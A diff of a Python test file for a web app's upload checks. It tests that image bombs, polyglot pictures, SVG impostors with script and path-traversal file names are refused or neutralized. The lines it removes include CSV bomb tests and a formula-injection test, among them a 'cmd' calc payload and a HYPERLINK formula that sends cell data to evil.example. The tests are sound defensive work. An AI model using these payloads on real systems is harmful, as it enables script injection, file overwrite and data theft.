@@ -1,8 +1,7 @@
-"""Files that are small to send and large to read, or two things at once: refused, or neutralized, in little memory."""
+"""Pictures that are small to send and large to read, or two things at once: refused, or neutralized, in little memory."""
 
 from __future__ import annotations
 
-import csv
 import io
 import os
 import random
@@ -19,12 +18,18 @@ from PIL import Image
 from werkzeug.datastructures import FileStorage
 from werkzeug.test import encode_multipart
 
-from app.adapters import csv_writer, image_process, images
+from app.adapters import image_process, images
 from tests.support.http import assert_refused, data_of
 
 MEGABYTE = 1024 * 1024
+
+
 MOST_GROWTH = 50 * MEGABYTE
+
+
 MOST_CPU_SECONDS = 3
+
+
 MARKER = b"<script>alert('stored')</script>"
 
 
@@ -122,6 +127,7 @@ BOMBS = {
 }
 """Each well formed, or nearly, and none larger than 500 kB."""
 
+
 HEAVY = {
     "palette of 25 million pixels": lambda: png(5000, 5000, color=3),
     "jpeg of 25 million pixels": lambda: saved("JPEG", (5000, 5000)),
@@ -130,6 +136,7 @@ HEAVY = {
     "as many scans as are read": lambda: repeated_scans(gray((4990, 4990)), image_process.MOST_SCANS - 10),
 }
 """What may be taken or refused, as long as it costs little."""
+
 
 MIXTURES = {
     "script behind a png": saved("PNG") + MARKER,
@@ -150,6 +157,7 @@ MIXTURES = {
     "moving webp": saved("WEBP", save_all=True, append_images=[Image.new("RGB", (64, 48), "blue")] * 50),
 }
 """Pictures that are something else as well."""
+
 
 IMPOSTORS = {
     "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
@@ -174,6 +182,7 @@ IMPOSTORS = {
     "one byte": b"x",
     "nothing": b"",
 }
+
 
 NAMES = [
     "../../../../tmp/climbed.png",
@@ -221,18 +230,6 @@ def form_with(content, name, media_type=None):
     file = FileStorage(io.BytesIO(content), name, content_type=media_type)
     boundary, form = encode_multipart({"file": file})
     return {"data": form, "content_type": f"multipart/form-data; boundary={boundary}"}
-
-
-def peak():
-    return int(re.search(r"VmHWM:\s+(\d+) kB", Path("/proc/self/status").read_text())[1]) * 1024
-
-
-@pytest.fixture
-def growth():
-    """By how much this process has grown at its largest since it was asked for the first time."""
-    Path("/proc/self/clear_refs").write_text("5")
-    before = peak()
-    return lambda: peak() - before
 
 
 @pytest.mark.parametrize("bomb", BOMBS)
@@ -365,59 +362,3 @@ def test_who_decodes_knows_no_setting(monkeypatch):
     assert os.environ
     assert seen["env"] == {}
     assert "-I" in seen["command"]
-
-
-CSV_BOMBS = {
-    "two million rows": b"email\n" + b"x\n" * 2_000_000,
-    "four million columns": b"," * 4_000_000,
-    "four million cells": b"email\n" + b"," * 4_000_000,
-    "four million blank lines": b"\n" * 4_000_000,
-    "four million quotes": b"email\n" + b'"' * 4_000_001,
-    "one long cell": b"email\n" + b"x" * 4_000_000,
-    "semicolons": b"email;first_name\n" + b";" * 4_000_000,
-    "tabs": b"email\tfirst_name\n" + b"\t" * 4_000_000,
-    "two million characters of UTF-16": "email\n".encode("utf-16") + "x\n".encode("utf-16-le") * 1_000_000,
-    "characters of four bytes": b"email\n" + "\U0001f600\n".encode() * 800_000,
-    "characters of Windows-1252": b"email\n" + b"\x80\n" * 2_000_000,
-    "twenty thousand titles": b",".join(b"%x" % number for number in range(20_000)) + b"\n",
-    "long titles": b"email," + b",".join(b"x" * 190 + b"%d" % number for number in range(490)) + b"\n",
-    "untitled columns": b"email" + b"," * 99_000 + b"\n" + (b"," * 99_000 + b"\n") * 39,
-    "invisible cells": b"email\n" + "\u200b\n".encode() * 1_000_000,
-}
-
-
-@pytest.mark.parametrize("bomb", CSV_BOMBS)
-def test_a_table_that_is_a_bomb_takes_little_memory(api, make, bomb, request):
-    office = api.as_(make.admin())
-    sent = form_with(CSV_BOMBS[bomb], "people.csv")
-    growth = request.getfixturevalue("growth")
-
-    response = office.post("/users/import", **sent)
-
-    assert response.status_code in {200, 400, 422}
-    assert len(response.data) < 100_000
-    assert growth() < MOST_GROWTH
-
-
-FORMULAS = [
-    f"{start}{rest}"
-    for start in ("=", "+", "-", "@", "\t=", "\r=", "\0=", "\uff1d", "\uff0b", "\uff0d", "\uff20")
-    for rest in (
-        "1+1",
-        "cmd|' /C calc'!A0",
-        'HYPERLINK("https://evil.example?"&A1,"x")',
-        "SUM(1,2)\n",
-        'a","=1+1',
-    )
-]
-
-
-@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
-def test_no_cell_of_ours_is_a_formula(formula):
-    written = csv_writer.header(["person.name", "note"]) + csv_writer.line(
-        {"person": {"name": formula}, "note": formula}, ["person.name", "note"]
-    )
-
-    columns, row = csv.reader(io.StringIO(written.removeprefix("\ufeff"), newline=""), strict=True)
-    assert columns == ["person_name", "note"]
-    assert row == [f"'{formula}"] * 2
